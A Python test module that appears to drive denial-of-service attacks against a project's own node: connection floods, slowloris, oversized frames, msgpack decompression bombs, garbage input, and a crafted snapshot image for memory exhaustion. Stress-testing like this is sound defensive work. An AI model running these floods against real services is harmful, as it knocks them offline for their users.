"""Attacks on a node by a peer without the cluster secret (and a few by
one with it), for the security tests and bench/abuse.py.

Each attack runs until stopped, in a process of its own so that it
competes with the node as a real attacker would, not with the test:

    python -m jmig.testing.attacks ATTACK HOST P [--secret-file F] [--conns N] [--sources N]

ATTACKs: idle (connections that send nothing, reopened when closed),
slowloris (a hello one byte at a time), bigframe (16 MiB frames announced
and sent), hugecount (msgpack that would build millions of objects, or
nest thousands deep), garbage (random bytes), all four ports each, and
authed-hugecount (the same after a valid handshake, on the control port).
Connections leave from `--sources` loopback addresses 127.77.x.y.
"""
from __future__ import annotations

import argparse
import errno
import random
import selectors
import socket
import struct
import sys
import time

import msgpack

from ..kernel.snapshot import EnvHeader
from ..proto import pstream
from ..proto.frames import encode_frame
from ..proto.handshake import ClientHandshake

PORT_OFFSETS = {"normal": 0, "pgfault": 1, "pager": 2, "control": 3}
BIG = 16 << 20


def source_addresses(n: int) -> list[str]:
    return [f"127.77.{i // 250}.{i % 250 + 1}" for i in range(n)]


def _open(host: str, port: int, src: str, blocking: bool = False) -> socket.socket | None:
    s = socket.socket()
    try:
        s.bind((src, 0))
        s.setblocking(blocking)
        try:
            s.connect((host, port))
        except BlockingIOError:
            pass
        return s
    except OSError:
        s.close()
        return None


def idle(host: str, base: int, conns: int, sources: int, stop: float, **_) -> None:
    """Hold `conns` connections that never send a byte, spread over all four
    ports and `sources` addresses; reopen each one the node closes."""
    sel = selectors.DefaultSelector()
    srcs = source_addresses(sources)
    ports = [base + o for o in PORT_OFFSETS.values()]
    slots = [(ports[i % 4], srcs[i % len(srcs)]) for i in range(conns)]
    live: dict[int, tuple[socket.socket, int]] = {}

    def open_slot(i: int) -> None:
        port, src = slots[i]
        s = _open(host, port, src)
        if s is not None:
            sel.register(s, selectors.EVENT_READ, i)
            live[i] = (s, port)

    for i in range(conns):
        open_slot(i)
    while time.monotonic() < stop:
        for key, _ in sel.select(timeout=0.1):
            s = key.fileobj
            try:
                data = s.recv(65536)
            except OSError:
                data = b""
            if not data:                       # closed by the node: come back at once
                sel.unregister(s)
                s.close()
                live.pop(key.data, None)
                open_slot(key.data)
        for i in range(conns):
            if i not in live:
                open_slot(i)


def _per_connection(host: str, base: int, conns: int, sources: int, stop: float, payload,
                    pace: float = 0.0) -> None:
    """Open connections one after another (up to `conns` at once over all
    ports), each sending payload(port kind) pieces `pace` seconds apart."""
    srcs = source_addresses(sources)
    rng = random.Random(1)
    n = 0
    while time.monotonic() < stop:
        batch = []
        for _ in range(conns):
            kind = list(PORT_OFFSETS)[n % 4]
            s = _open(host, base + PORT_OFFSETS[kind], srcs[n % len(srcs)], blocking=True)
            n += 1
            if s is not None:
                s.settimeout(2)
                batch.append((s, payload(kind, rng)))
        while batch and time.monotonic() < stop:
            for s, pieces in list(batch):
                try:
                    piece = next(pieces)
                    s.sendall(piece)
                except (StopIteration, OSError):
                    s.close()
                    batch.remove((s, pieces))
            if pace:
                time.sleep(pace)
        for s, _ in batch:
            s.close()


def _slow_hello(kind, rng):
    for b in encode_frame(ClientHandshake(b"x" * 32, kind).hello()):
        yield bytes([b])


def _big_frame(kind, rng):
    yield struct.pack(">I", BIG)
    chunk = rng.randbytes(64 << 10)
    for _ in range(BIG // len(chunk)):
        yield chunk


def _huge_count(kind, rng):
    # An array32 header announcing 2**32 - 1 empty maps, then a few of them;
    # and a body nested thousands deep.
    body = b"\x81\xa1t\xdd\xff\xff\xff\xff" + b"\x80" * 1000
    yield struct.pack(">I", len(body)) + body
    deep = b"\x81\xa1t" + b"\x91" * 1000 + b"\xc0"
    yield struct.pack(">I", len(deep)) + deep


def _garbage(kind, rng):
    for _ in range(16):
        yield rng.randbytes(4096)


def slowloris(host, base, conns, sources, stop, **_):
    _per_connection(host, base, conns, sources, stop, _slow_hello, pace=0.3)


def bigframe(host, base, conns, sources, stop, **_):
    _per_connection(host, base, min(conns, 8), sources, stop, _big_frame)


def hugecount(host, base, conns, sources, stop, **_):
    _per_connection(host, base, conns, sources, stop, _huge_count)


def garbage(host, base, conns, sources, stop, **_):
    _per_connection(host, base, conns, sources, stop, _garbage)


def _authed_control(host: str, base: int, secret: bytes, src: str) -> socket.socket:
    """A control connection past the handshake (plain sockets)."""
    s = socket.create_connection((host, base + 3), source_address=(src, 0), timeout=5)
    hs = ClientHandshake(secret, "control", "attacker")
    s.sendall(encode_frame(hs.hello()))
    buf = b""
    while True:
        while len(buf) < 4 or len(buf) < 4 + struct.unpack(">I", buf[:4])[0]:
            data = s.recv(65536)
            if not data:
                raise ConnectionError("closed during the handshake")
            buf += data
        n = struct.unpack(">I", buf[:4])[0]
        msg, buf = msgpack.unpackb(buf[4:4 + n]), buf[4 + n:]
        reply = hs.receive(msg)
        if reply is None:
            return s
        s.sendall(encode_frame(reply))


def authed_hugecount(host, base, conns, sources, stop, secret=b"", **_):
    """With the secret: 16 MiB control frames of a map holding an array of
    millions of empty maps (1.5 GB if a decoder built them)."""
    body = b"\x81\xa1t\xdd" + struct.pack(">I", BIG - 9) + b"\x80" * (BIG - 9)
    frame = struct.pack(">I", len(body)) + body
    srcs = source_addresses(sources)
    i = 0
    while time.monotonic() < stop:
        try:
            s = _authed_control(host, base, secret, srcs[i % len(srcs)])
            s.sendall(frame)
            s.close()
        except OSError:
            time.sleep(0.05)
        i += 1


def run_record_image() -> bytes:
    """A 248-byte image whose one RUN record covers all of user space (and
    whose header announces as many pages): a decoder that believed it
    would spend hundreds of MB on it."""
    enc = pstream.StreamEncoder()
    h = EnvHeader(envid=4096, parent_id=0, name="x", status=2, runs=0, regs=(0,) * 8,
                  eip=0x800020, eflags=0x202, trapno=0, err=0, pgfault_upcall=0,
                  ipc_recving=0, ipc_dstva=0, ipc_value=0, ipc_from=0, ipc_perm=0, sleep_ms=None)
    fields = pstream.header_fields(h, node="x", jmig_version="x", pages=pstream.MAX_RUN,
                                   method="image")
    return enc.start(fields) + enc.remote_run(0, pstream.MAX_RUN, 7) + enc.trailer()


ATTACKS = {"idle": idle, "slowloris": slowloris, "bigframe": bigframe, "hugecount": hugecount,
           "garbage": garbage, "authed-hugecount": authed_hugecount}


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("attack", choices=sorted(ATTACKS))
    ap.add_argument("host")
    ap.add_argument("port", type=int, help="the node's base port P")
    ap.add_argument("--conns", type=int, default=500)
    ap.add_argument("--sources", type=int, default=50)
    ap.add_argument("--seconds", type=float, default=3600)
    ap.add_argument("--secret-file")
    a = ap.parse_args(argv)
    secret = open(a.secret_file, "rb").read().strip() if a.secret_file else b""
    print("attacking", flush=True)          # for a caller waiting until it has begun
    try:
        ATTACKS[a.attack](a.host, a.port, a.conns, a.sources, time.monotonic() + a.seconds,
                          secret=secret)
    except KeyboardInterrupt:
        pass
    except OSError as exc:
        if exc.errno != errno.EPIPE:
            raise
    return 0


if __name__ == "__main__":
    sys.exit(main())
